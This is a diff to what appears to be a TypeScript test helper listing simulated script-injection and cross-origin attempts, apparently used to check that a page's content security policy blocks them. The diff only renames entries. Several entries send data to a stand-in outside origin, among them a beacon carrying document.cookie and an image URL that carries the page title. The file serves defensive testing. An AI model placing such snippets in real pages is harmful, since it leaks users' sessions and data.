@@ -1,9 +1,9 @@
 /**
  * Attacks by injected markup or a compromised script, as code that runs in the page and returns whether the attack
- * succeeded. `otherOrigin` is an origin different from the page's.
+ * succeeded. `otherOrigin` must differ from the page's origin.
  */
 export const createHostileAttempts = (otherOrigin: string): Record<string, string> => ({
-  'a script element with code': `(() => {
+  'an inline script element': `(() => {
     const script = document.createElement('script');
     script.textContent = 'globalThis.hasRun = true';
     document.head.append(script);
@@ -21,8 +21,8 @@ export const createHostileAttempts = (otherOrigin: string): Record<string, strin
     return waitForRun();
   })()`,
   'evaluated code': `runLater(() => eval('globalThis.hasRun = true'))`,
-  'a function built from text': `runLater(() => new Function('globalThis.hasRun = true')())`,
-  'a timer with text': `runLater(() => setTimeout('globalThis.hasRun = true', 0))`,
+  'a function built from a string': `runLater(() => new Function('globalThis.hasRun = true')())`,
+  'a timer with a string': `runLater(() => setTimeout('globalThis.hasRun = true', 0))`,
   'a script from another origin': `loadElement('script', { src: '${otherOrigin}/chat/widget.js' })`,
   'a script from a data: URL': `loadElement('script', { src: 'data:text/javascript,globalThis.hasRun=true' })`,
   'a script from a blob': `loadElement('script', { src: URL.createObjectURL(new Blob(['globalThis.hasRun = true'])) })`,
@@ -40,7 +40,7 @@ export const createHostileAttempts = (otherOrigin: string): Record<string, strin
     integrity: 'sha384-${'A'.repeat(64)}',
   })`,
   'a style sheet from another origin': `loadElement('link', { rel: 'stylesheet', href: '${otherOrigin}/mailbox.css' })`,
-  'a picture from another origin': `loadElement('img', { src: '${otherOrigin.replace('http:', 'https:')}/?' + document.title })`,
+  'an image from another origin': `loadElement('img', { src: '${otherOrigin.replace('http:', 'https:')}/?' + document.title })`,
   'a background from another origin': `(() => {
     document.body.style.backgroundImage = "url('${otherOrigin.replace('http:', 'https:')}/background')";
     return new Promise((done) => setTimeout(() => done(false), 200));
@@ -50,7 +50,7 @@ export const createHostileAttempts = (otherOrigin: string): Record<string, strin
     document.body.insertAdjacentHTML('beforeend', '<style>body { outline: 3px solid rgb(1, 2, 3) }</style>');
     return getComputedStyle(document.body).outlineColor === 'rgb(1, 2, 3)';
   })()`,
-  'a call to another origin': `fetch('${otherOrigin}/messages', { mode: 'no-cors' }).then(() => true, () => false)`,
+  'a request to another origin': `fetch('${otherOrigin}/messages', { mode: 'no-cors' }).then(() => true, () => false)`,
   'a beacon to another origin': `(() => {
     navigator.sendBeacon('${otherOrigin}/messages', document.cookie);
     return false;
@@ -69,7 +69,7 @@ export const createHostileAttempts = (otherOrigin: string): Record<string, strin
       try { done(frame.contentDocument !== null && frame.contentDocument.body.childElementCount > 0); } catch { done(false); }
     }, 500));
   })()`,
-  'a form to another origin': `(() => {
+  'a form submitted to another origin': `(() => {
     const form = document.createElement('form');
     form.action = '${otherOrigin}/messages';
     form.method = 'post';
